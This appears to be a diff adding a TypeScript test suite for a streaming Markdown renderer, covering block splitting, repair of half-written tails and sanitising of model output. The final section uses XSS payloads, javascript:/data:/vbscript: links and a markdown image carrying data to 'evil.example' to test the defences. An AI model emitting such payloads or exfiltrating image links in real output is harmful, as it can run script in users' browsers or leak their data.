@@ -1,0 +1,112 @@
+import { render, screen } from "@testing-library/react";
+import { describe, expect, it } from "vitest";
+import { Markdown } from "./Markdown";
+import { classify } from "./SafeLink";
+import { repairTail } from "./repair";
+import { splitBlocks } from "./split";
+
+const document = `# Title
+
+Some *text* with \`code\`.
+
+- one
+
+  still one
+- two
+
+1. first
+
+2. second
+
+\`\`\`sql
+SELECT 1
+
+-- not a cut
+\`\`\`
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+> quote
+
+The end.`;
+
+describe("splitting", () => {
+  it("loses nothing", () => {
+    expect(splitBlocks(document).join("")).toBe(document);
+  });
+  it("keeps fences and lists whole", () => {
+    const blocks = splitBlocks(document);
+    expect(blocks.find((block) => block.startsWith("```"))).toContain("-- not a cut\n```");
+    expect(blocks.find((block) => block.startsWith("- one"))).toContain("- two");
+    expect(blocks.find((block) => block.startsWith("1. first"))).toContain("2. second");
+  });
+  it("only ever changes its last block while text streams in", () => {
+    let before: string[] = [];
+    for (let end = 0; end <= document.length; end += 1) {
+      const blocks = splitBlocks(document.slice(0, end));
+      // A list or an indented line may take up the block before; nothing earlier ever moves.
+      for (let index = 0; index < Math.min(before.length, blocks.length) - 2; index += 1) expect(blocks[index]).toBe(before[index]);
+      before = blocks;
+    }
+  });
+  it("gives every block the link definitions", () => {
+    expect(splitBlocks("See [a].\n\nAnd [a].\n\n[a]: https://x.example").every((block) => block.includes("[a]: https://x.example"))).toBe(true);
+  });
+});
+
+describe("the unfinished end", () => {
+  it.each([
+    ["| a | b", "| a | b |\n|---|---|"],
+    ["| a | b |", "| a | b |\n|---|---|"],
+    ["| a | b |\n|--", "| a | b |\n|---|---|"],
+    ["| a | b |\n|---|---|\n| 1", "| a | b |\n|---|---|\n| 1"],
+    ["**bold", "**bold**"],
+    ["half `code", "half `code`"],
+    ["see [the docs](https://exa", "see the docs"],
+    ["see [the do", "see the do"],
+    ["look ![alt](http", "look alt"],
+    ["Text\n-", "Text\n"],
+    ["Text\n==", "Text\n"],
+    ["#", ""],
+    ["```sql\nSELECT **", "```sql\nSELECT **"],
+    ["plain text.", "plain text."],
+    ["done **bold** and", "done **bold** and"],
+  ])("%j is shown as %j", (tail, shown) => {
+    expect(repairTail(tail)).toBe(shown);
+  });
+
+  it("never throws, wherever text is cut", () => {
+    for (let end = 0; end <= document.length; end += 1) expect(() => splitBlocks(document.slice(0, end)).map(repairTail)).not.toThrow();
+  });
+
+  it("shows a table from its first row on", () => {
+    render(<Markdown text={"| Hour | Trips |\n|--"} streaming />);
+    expect(screen.getAllByRole("columnheader").map((cell) => cell.textContent)).toEqual(["Hour", "Trips"]);
+  });
+});
+
+describe("what a model writes", () => {
+  it("never becomes HTML", () => {
+    const { container } = render(<Markdown text={'<img src=x onerror="alert(1)"> <script>alert(1)</script> <b>hi</b>'} />);
+    expect(container.querySelector("img, script, b")).toBeNull();
+  });
+  it("never loads a picture", () => {
+    const { container } = render(<Markdown text="![secret](https://evil.example/p.png?d=1)" />);
+    expect(container.querySelector("img")).toBeNull();
+    expect(screen.getByRole("link", { name: "Image: secret" }).getAttribute("href")).toBe("https://evil.example/p.png?d=1");
+  });
+  it("shows where a link goes and keeps the opener", () => {
+    render(<Markdown text="[docs](https://docs.example/x)" />);
+    expect(screen.getByRole("link", { name: "docs" }).getAttribute("rel")).toContain("noopener");
+    expect(screen.getByText("(docs.example)")).toBeTruthy();
+  });
+  it.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x", "#anchor", ""])("does not link to %j", (href) => {
+    expect(classify(href).kind).toBe("none");
+  });
+  it("links to files of the project", () => {
+    expect(classify("./out/report%20one.md")).toEqual({ kind: "file", path: "out/report one.md" });
+    expect(classify("//evil.example/x")).toMatchObject({ kind: "web", host: "evil.example" });
+  });
+});
